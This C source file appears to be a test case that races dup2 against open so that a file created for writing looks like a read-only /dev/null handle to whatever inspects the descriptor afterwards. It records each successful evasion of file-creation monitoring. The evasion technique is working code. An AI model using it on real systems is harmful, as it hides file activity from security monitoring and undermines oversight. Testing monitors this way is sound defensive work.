// SPDX-License-Identifier: Apache-2.0
/*
 * Opens files for writing while another thread lays a harmless file, open for reading, over the
 * same descriptor with dup2: who looks at the descriptor when the call ends may find that one.
 */
#include "bypass.h"

#include "base/bytes.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <unistd.h>

enum {
    RACES = 500,
    DOTS = 500, /* in the path: so the kernel looks for the file while the descriptor is taken */
    PATH_BYTES = 2 * DOTS + 32,
    WAITS = 50,
    WAIT_STEP = 40,
};

static int harmless;
static atomic_int contested = -1;
static atomic_bool is_over;

static void *cover(void *unused)
{
    for (unsigned round = 0; !atomic_load(&is_over); round++) {
        int descriptor = atomic_load(&contested);
        if (descriptor < 0)
            continue;
        /* Not before the other call has taken the descriptor: how long that is, nobody knows. */
        for (volatile unsigned wait = round % WAITS * WAIT_STEP; wait > 0; wait--)
            ;
        while (dup2(harmless, descriptor) < 0 && atomic_load(&contested) == descriptor)
            ; /* EBUSY until the file is opened */
        while (atomic_load(&contested) == descriptor)
            ;
    }
    return unused;
}

/* Opens by a long way; true when the descriptor was still free. */
static bool open_raced(const char *path, int descriptor)
{
    close(descriptor);
    atomic_store(&contested, descriptor);
    int file = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
    atomic_store(&contested, -1);
    if (file < 0)
        trigger_fail(path);
    if (file != descriptor)
        close(file);
    return file == descriptor;
}

int main(void)
{
    pthread_t thread;
    char path[PATH_BYTES];
    char *name = path + 2 * DOTS;
    trigger_enter_folder();
    harmless = open("/dev/null", O_RDONLY | O_CLOEXEC);
    if (harmless < 0 || pthread_create(&thread, NULL, cover, NULL) != 0)
        trigger_fail("beginning");
    for (size_t i = 0; i < DOTS; i++)
        (void)string_copy(path + 2 * i, sizeof path - 2 * i, "./");
    int next = dup(harmless); /* the lowest free one: the next open takes it */
    if (next < 0)
        trigger_fail("dup");
    for (int i = 0; i < RACES; i++) {
        (void)string_format(name, PATH_BYTES - 2 * DOTS, "valuable-%d", i);
        if (open_raced(path, next))
            bypass_file("raced", "file_create", trigger_path(name), bypass_inode(name));
    }
    for (int i = 0; i < RACES; i++) { /* only now: no inode is used twice */
        (void)string_format(name, PATH_BYTES - 2 * DOTS, "valuable-%d", i);
        unlink(name);
    }
    atomic_store(&is_over, true);
    pthread_join(thread, NULL);
    trigger_leave();
    return 0;
}
